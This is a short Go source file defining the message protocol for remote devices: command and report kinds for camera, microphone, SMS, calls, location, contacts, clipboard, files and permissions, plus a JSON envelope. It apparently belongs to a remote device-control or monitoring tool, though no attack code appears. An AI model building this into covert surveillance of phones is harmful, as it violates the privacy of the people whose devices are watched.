// Package protocol defines the message-kind vocabulary shared by the device
// channel, the command dispatcher, and the telemetry ingestion pipeline.
package protocol

import "encoding/json"

// Kind identifies one message family, used both for outbound commands and
// inbound reports.
type Kind string

const (
	KindCamera        Kind = "camera"
	KindFiles         Kind = "files"
	KindCall          Kind = "call"
	KindSMS           Kind = "sms"
	KindMic           Kind = "mic"
	KindLocation      Kind = "location"
	KindContacts      Kind = "contacts"
	KindWifi          Kind = "wifi"
	KindNotification  Kind = "notification"
	KindClipboard     Kind = "clipboard"
	KindInstalled     Kind = "installed"
	KindPermissions   Kind = "permissions"
	KindGotPermission Kind = "gotPermission"
)

// KindWelcome is the greeting the coordinator emits as soon as a device
// channel is established. It is not a command kind and carries no payload.
const KindWelcome Kind = "welcome"

// Kinds lists every command/report kind in the vocabulary.
var Kinds = []Kind{
	KindCamera,
	KindFiles,
	KindCall,
	KindSMS,
	KindMic,
	KindLocation,
	KindContacts,
	KindWifi,
	KindNotification,
	KindClipboard,
	KindInstalled,
	KindPermissions,
	KindGotPermission,
}

// Known reports whether k belongs to the vocabulary.
func Known(k Kind) bool {
	for _, known := range Kinds {
		if k == known {
			return true
		}
	}
	return false
}

// Envelope is the JSON frame exchanged over a device channel in both
// directions. The payload shape depends on the kind.
type Envelope struct {
	Kind    Kind            `json:"kind"`
	Payload json.RawMessage `json:"payload,omitempty"`
}

// Payload is the free-form keyed field set of an outbound command.
type Payload map[string]any
